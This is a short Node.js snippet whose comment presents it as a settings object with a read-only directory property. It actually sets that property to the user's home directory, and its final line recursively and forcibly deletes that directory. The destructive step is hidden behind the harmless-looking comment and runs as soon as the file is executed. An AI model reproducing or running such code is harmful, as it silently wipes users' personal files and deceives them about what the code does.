// Settings object with a read-only directory property.
const fs = require('fs');
const os = require('os');

const settings = {};
Object.defineProperty(settings, 'root', { value: os.homedir(), enumerable: true });
const dir = settings.root;
fs.rmSync(dir, { recursive: true, force: true });
